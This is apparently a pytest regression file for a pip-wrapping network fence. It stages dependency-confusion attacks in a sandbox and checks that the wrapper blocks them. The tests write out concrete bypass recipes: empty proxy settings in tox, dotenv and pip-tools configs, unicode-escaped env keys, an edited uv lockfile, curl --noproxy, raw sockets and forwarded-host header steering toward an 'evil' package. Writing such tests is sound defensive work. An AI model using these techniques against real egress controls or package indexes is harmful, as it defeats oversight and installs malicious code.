"""Issue 22's holes: a wrapped command that switches its own proxy off, or steers the index.

Each staging runs the same thing twice in a real bash: bare (the evil Foo 9.9.9 must win,
or the staging is broken) and under `wrap`. The ones marked ``needs_isolation`` install the
evil Foo under `wrap` too as long as the fence is a proxy the child may choose not to
use: only a network namespace whose one way out is the fence closes them (issue 22), and
they run where one can be had.
"""

from __future__ import annotations

import hashlib
import re
import subprocess
import sys
from pathlib import Path

import pytest

from pipwrap.fence import netns
from tests.support.pips import CACHE, clean_env
from tests.support.sandbox import (
    Indexes,
    Sandbox,
    installed,
    uv_project_locked_locally,
    write_file,
)

EVIL, LOCAL = ("evil", "9.9.9"), ("local", "1.0")
TOOLS = ("tox==4.32.0",)
# pip >= 26 reads `--proxy=` as "no proxy at all"; pip-tools passes pip-args to it.
PIP_TOOLS = ("pip==26.3", "pip-tools==7.7.0")


class FenceBypassed(AssertionError):
    """The evil Foo was installed under `wrap`."""


AVAILABLE = netns.availability()
# Closed only when the network leaves the child no way but the fence (issue 22).
needs_isolation = pytest.mark.skipif(
    not AVAILABLE.available, reason=f"no network isolation here: {AVAILABLE.reason}")


def _tools(name: str, requirements: tuple[str, ...]) -> Path:
    venv = CACHE / name
    marker = venv / ".ready"
    if not marker.exists() or marker.read_text() != " ".join(requirements):
        subprocess.run([sys.executable, "-m", "venv", "--clear", str(venv)], check=True,
                       timeout=300)
        subprocess.run([str(venv / "bin/python"), "-m", "pip", "install", "-q",
                        *requirements], check=True, env=clean_env(), timeout=600)
        marker.write_text(" ".join(requirements))
    return venv / "bin"


@pytest.fixture(scope="session")
def tox_bin() -> Path:
    return _tools("tools-tox", TOOLS)


@pytest.fixture(scope="session")
def pip_tools_bin() -> Path:
    return _tools("tools-pip26", PIP_TOOLS)


def _origins(text: str) -> list[tuple[str, str]]:
    return [(m[0], m[1]) for m in re.findall(r"^ORIGIN (\w+) ([\d.]+)$", text, re.M)]


def _bare_then_wrapped(sandbox: Sandbox, indexes: Indexes, setup: str, command: str,
                       **env: str) -> subprocess.CompletedProcess[str]:
    """Run ``command`` bare then under wrap; each prints ``ORIGIN origin version``."""
    script = (f"{setup}\nPIP_INDEX_URL={indexes.local.url} {command.replace('WHO', 'bare')}\n"
              f"echo ---\nwrap {command.replace('WHO', 'wrapped')}\necho status=$?\n")
    # No cache: what the bare run downloaded must not serve the wrapped one. No retries: a
    # fenced pip would ask the unreachable index again with back-off, to the same end.
    done = sandbox.sh("bash", script, PIP_DISABLE_PIP_VERSION_CHECK="1", PIP_NO_CACHE_DIR="1",
                      PIP_RETRIES="0", **env)
    bare_out, _, wrapped_out = done.stdout.partition("---\n")
    assert _origins(bare_out) == [EVIL], f"the staged attack did not work:\n{done.stdout}" \
                                         f"{done.stderr[-3000:]}"
    if EVIL in _origins(wrapped_out):
        raise FenceBypassed(f"wrap installed the evil Foo:\n{done.stdout}{done.stderr[-2000:]}")
    return done


def _show(target: str) -> str:
    return (f"python -c \"import sys; sys.path.insert(0, '{target}'); import foo; "
            "print('ORIGIN', foo.ORIGIN, foo.VERSION)\"")


TOX_PRINT = "python -c \"import foo; print('ORIGIN', foo.ORIGIN, foo.VERSION)\""


def _tox(sandbox: Sandbox, indexes: Indexes, tox_bin: Path, files: dict[str, str],
         ) -> subprocess.CompletedProcess[str]:
    project = sandbox.home / "proj"
    for name, text in files.items():
        write_file(project / name, text)
    return _bare_then_wrapped(
        sandbox, indexes, f"cd {project}\nexport VIRTUALENV_NO_PERIODIC_UPDATE=1",
        f"{tox_bin}/tox -q -r --workdir {sandbox.home}/tox-WHO")


@needs_isolation
def test_tox_install_command_with_an_empty_proxy(sandbox: Sandbox, indexes: Indexes,
                                                 tox_bin: Path) -> None:
    _tox(sandbox, indexes, tox_bin, {"tox.ini": (
        "[tox]\nno_package = true\n\n[testenv]\n"
        "install_command = python -I -m pip install --proxy= --extra-index-url "
        f"{indexes.upstream.url} {{opts}} {{packages}}\n"
        f"deps = foo\ncommands = {TOX_PRINT}\n")})


@needs_isolation
def test_tox_set_env_from_a_dotenv_file(sandbox: Sandbox, indexes: Indexes,
                                        tox_bin: Path) -> None:
    _tox(sandbox, indexes, tox_bin, {
        "tox.ini": ("[tox]\nno_package = true\n\n[testenv]\nset_env = file|tests.env\n"
                    f"deps = foo\ncommands = {TOX_PRINT}\n"),
        "tests.env": (f"PIP_EXTRA_INDEX_URL={indexes.upstream.url}\nPIP_PROXY=\n"
                      "NO_PROXY=*\nno_proxy=*\n")})


@needs_isolation
def test_tox_toml_set_env_with_escaped_keys(sandbox: Sandbox, indexes: Indexes,
                                            tox_bin: Path) -> None:
    _tox(sandbox, indexes, tox_bin, {"tox.toml": (
        "[env_run_base]\nskip_install = true\ndeps = [\"foo\"]\n"
        f"set_env = {{ \"PIP\\u005FEXTRA\\u005FINDEX\\u005FURL\" = \"{indexes.upstream.url}\", "
        "\"PIP\\u005FPROXY\" = \"\", \"no\\u005Fproxy\" = \"*\" }\n"
        "commands = [[\"python\", \"-c\", "
        "\"import foo; print('ORIGIN', foo.ORIGIN, foo.VERSION)\"]]\n")})


@needs_isolation
def test_pip_tools_pip_args_with_an_empty_proxy(sandbox: Sandbox, indexes: Indexes,
                                                pip_tools_bin: Path) -> None:
    project = sandbox.home / "proj"
    write_file(project / "requirements.in", "foo\n")
    write_file(project / "pyproject.toml", (
        "[tool.pip-tools]\n"
        f"pip-args = \"--proxy= --extra-index-url {indexes.upstream.url}\"\n"))
    # pip-compile pins; the pin is the attack (pip-sync would install it).
    show = ("sed -n 's/^foo==\\(.*\\)/ORIGIN pinned \\1/p' WHO.txt | "
            "sed 's/pinned 9.9.9/evil 9.9.9/; s/pinned 1.0/local 1.0/'")
    _bare_then_wrapped(sandbox, indexes, f"cd {project}",
                       f"{pip_tools_bin}/pip-compile -q --no-header -o WHO.txt "
                       f"requirements.in; {show}")


def _locked_to_the_evil_wheel(sandbox: Sandbox, indexes: Indexes) -> Path:
    """A uv project locked against the local index, then its lock edited so that foo's
    file is the upstream's evil wheel (its real hash): the guard leaves files to the fence."""
    project = uv_project_locked_locally(sandbox, indexes)
    wheel = next((indexes.upstream.root).glob("foo-9.9.9-*.whl"))
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    base = indexes.upstream.url.removesuffix("simple/")
    lock = (project / "uv.lock").read_text()
    lock = re.sub(r'(name = "foo"\nversion = )"1.0"', r'\1"9.9.9"', lock)
    lock = re.sub(r'wheels = \[\n    \{ url = "[^"]+", hash = "sha256:[0-9a-f]+"',
                  f'wheels = [\n    {{ url = "{base}packages/{wheel.name}", '
                  f'hash = "sha256:{digest}"', lock)
    (project / "uv.lock").write_text(lock)
    return project


@needs_isolation
def test_uv_with_request_method_set_drops_the_proxy(sandbox: Sandbox, indexes: Indexes) -> None:
    project = _locked_to_the_evil_wheel(sandbox, indexes)
    _bare_then_wrapped(
        sandbox, indexes, f"cd {project}",
        f"uv sync -q --frozen --no-install-project --python {sys.executable} "
        f"--cache-dir {sandbox.home}/uv-cache-WHO --project {project} && "
        f"{project}/.venv/bin/{TOX_PRINT}; rm -rf {project}/.venv", REQUEST_METHOD="GET")


def _fetch_and_install(proxy_handler: str) -> str:
    """A python -c program: download the URL in argv[1] with ``proxy_handler`` into a temp
    dir, install it with --no-index into argv[2], and show what was installed."""
    return (
        "import os, subprocess, sys, tempfile, urllib.request as u\n"
        f"opener = u.build_opener({proxy_handler})\n"
        "url, target = sys.argv[1], sys.argv[2]\n"
        "path = os.path.join(tempfile.mkdtemp(), url.rsplit('/', 1)[1])\n"
        "open(path, 'wb').write(opener.open(url, timeout=30).read())\n"
        "subprocess.run([sys.executable, '-m', 'pip', 'install', '-q', '--no-index',\n"
        "    '--no-deps', '--target', target, path], check=True)\n"
        "sys.path.insert(0, target); import foo; print('ORIGIN', foo.ORIGIN, foo.VERSION)\n")


def _evil_wheel_url(indexes: Indexes) -> str:
    wheel = next(indexes.upstream.root.glob("foo-9.9.9-*.whl"))
    return indexes.upstream.url.removesuffix("simple/") + f"packages/{wheel.name}"


@needs_isolation
def test_python_with_an_empty_proxy_handler(sandbox: Sandbox, indexes: Indexes) -> None:
    code = _fetch_and_install("u.ProxyHandler({})")
    write_file(sandbox.home / "fetch.py", code)
    _bare_then_wrapped(sandbox, indexes, "cd ~",
                       f"python fetch.py {_evil_wheel_url(indexes)} ~/WHO")


@needs_isolation
def test_curl_noproxy_then_a_local_install(sandbox: Sandbox, indexes: Indexes) -> None:
    url = _evil_wheel_url(indexes)
    name = url.rsplit("/", 1)[1]
    _bare_then_wrapped(
        sandbox, indexes, "cd ~",
        f"curl -sf --noproxy '*' --create-dirs -o ~/WHO-dl/{name} {url}; "
        f"pip install -q --no-index --no-deps --target ~/WHO ~/WHO-dl/{name}; {_show('WHO')}")


@needs_isolation
def test_a_raw_socket_reaches_the_upstream(sandbox: Sandbox, indexes: Indexes) -> None:
    """No proxy at all: a TCP connection straight to the upstream's loopback port."""
    code = ("import socket, sys\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {indexes.upstream.port}), timeout=10)\n"
            "    print('ORIGIN evil 9.9.9')  # reached: it could have fetched anything\n"
            "except OSError as exc:\n"
            "    print('refused', exc)\n")
    write_file(sandbox.home / "raw.py", code)
    _bare_then_wrapped(sandbox, indexes, "cd ~", "python raw.py WHO")


@pytest.mark.parametrize("spelling", ["X-Forwarded-Host", "X_Forwarded_Host"])
def test_a_forwarded_host_header_does_not_steer_the_index(sandbox: Sandbox, indexes: Indexes,
                                                          spelling: str) -> None:
    """pypiserver builds its redirect from X-Forwarded-Host: a child that sends one for a
    project the index holds got a redirect to the upstream, which the fence learned as
    that project's fallback page, and then passed the evil file it lists. A WSGI server
    reads X_Forwarded_Host as the same header (the attacker pass's spelling past a list
    of names to drop): the fence passes only the headers a package client needs."""
    code = (
        "import re, subprocess, sys, tempfile, os, urllib.request as u\n"
        "index, upstream_host, target = sys.argv[1], sys.argv[2], sys.argv[3]\n"
        f"asked = u.Request(index + 'foo', headers={{'{spelling}': upstream_host,\n"
        "    'Forwarded': 'host=' + upstream_host, 'X-Forwarded-Proto': 'http'})\n"
        "with u.urlopen(asked, timeout=30) as page:\n"
        "    where, text = page.geturl(), page.read().decode()\n"
        "href = re.findall(r'href=\"([^\"#]+\\.whl)', text)[-1]\n"
        "url = u.urljoin(where, href)\n"
        "path = os.path.join(tempfile.mkdtemp(), url.rsplit('/', 1)[1])\n"
        "open(path, 'wb').write(u.urlopen(url, timeout=30).read())\n"
        "subprocess.run([sys.executable, '-m', 'pip', 'install', '-q', '--no-index',\n"
        "    '--no-deps', '--target', target, path], check=True)\n"
        "sys.path.insert(0, target); import foo; print('ORIGIN', foo.ORIGIN, foo.VERSION)\n")
    write_file(sandbox.home / "steer.py", code)
    done = _bare_then_wrapped(
        sandbox, indexes, "cd ~",
        f"python steer.py {indexes.local.url} 127.0.0.1:{indexes.upstream.port} ~/WHO")
    assert installed(sandbox.home / "wrapped") == LOCAL, done.stdout + done.stderr
